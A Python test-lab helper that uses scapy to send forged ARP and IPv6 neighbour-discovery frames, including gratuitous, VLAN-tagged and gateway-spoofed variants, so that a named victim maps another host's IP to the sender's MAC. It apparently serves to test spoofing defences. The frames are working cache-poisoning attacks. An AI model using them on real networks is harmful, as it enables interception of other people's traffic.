"""Sends frames that claim another host's IP address: `python -m tests.lab.claims IP VICTIM_MAC VICTIM_IP`.

It reads names of frames from its input, sends each, and prints a line after it.
"""

from __future__ import annotations

import sys
from typing import Any

from tests.lab import names

ALL, ALL_NODES = "ff:ff:ff:ff:ff:ff", "33:33:00:00:00:01"
ARP = (
    "reply", "reply-to-all", "request", "gratuitous", "announcement", "ieee802", "tagged", "tagged-twice",
    "forged-frame",
)  # fmt: skip
NEIGHBOUR = ("advertisement", "advertisement-to-all", "other-source", "solicitation", "tagged-6", "forged-6")


def frames(own: str, ip: str, victim: str, victim_ip: str) -> dict[str, Any]:
    """Return the frames by name. ``own``: the sender's MAC address, which the victim shall use for ``ip``."""
    from scapy.layers.inet6 import (
        ICMPv6ND_NA,
        ICMPv6ND_NS,
        ICMPv6NDOptDstLLAddr,
        ICMPv6NDOptSrcLLAddr,
        IPv6,
    )
    from scapy.layers.l2 import ARP, Dot1Q, Ether
    from scapy.packet import Raw

    to_victim, to_all = Ether(src=own, dst=victim), Ether(src=own, dst=ALL)
    forged = Ether(src=names.GATEWAY_MAC, dst=victim)
    if ":" not in ip:
        reply = ARP(op=2, hwsrc=own, psrc=ip, hwdst=victim, pdst=victim_ip)
        return {
            "reply": to_victim / reply,
            "reply-to-all": to_all / reply,
            "request": to_all / ARP(op=1, hwsrc=own, psrc=ip, pdst=victim_ip),
            "gratuitous": to_all / ARP(op=1, hwsrc=own, psrc=ip, pdst=ip),
            "announcement": to_all / ARP(op=2, hwsrc=own, psrc=ip, hwdst=ALL, pdst=ip),
            "ieee802": Ether(src=own, dst=victim, type=0x0806) / Raw(b"\0\6" + bytes(reply)[2:]),
            "tagged": to_victim / Dot1Q(prio=3, vlan=0) / reply,
            "tagged-twice": to_victim / Dot1Q(vlan=0) / Dot1Q(vlan=0) / reply,
            "forged-frame": forged / reply,
        }
    message = ICMPv6ND_NA(R=1, S=0, O=1, tgt=ip) / ICMPv6NDOptDstLLAddr(lladdr=own)
    advertisement = IPv6(src=ip, dst=victim_ip) / message
    question = ICMPv6ND_NS(tgt=victim_ip) / ICMPv6NDOptSrcLLAddr(lladdr=own)
    return {
        "advertisement": to_victim / advertisement,
        "advertisement-to-all": Ether(src=own, dst=ALL_NODES) / IPv6(src=ip, dst="ff02::1") / message,
        "other-source": to_victim / IPv6(src="fe80::bad", dst=victim_ip) / message,
        "solicitation": to_victim / IPv6(src=ip, dst=victim_ip) / question,
        "tagged-6": to_victim / Dot1Q(vlan=0) / advertisement,
        "forged-6": forged / advertisement,
    }


def main() -> None:
    from scapy.arch import get_if_hwaddr
    from scapy.sendrecv import sendp

    ip, victim, victim_ip = sys.argv[1:]
    found = frames(get_if_hwaddr("eth0"), ip, victim, victim_ip)
    for line in sys.stdin:
        sendp(found[line.strip()], iface="eth0", verbose=0)
        print("sent", flush=True)


if __name__ == "__main__":
    main()
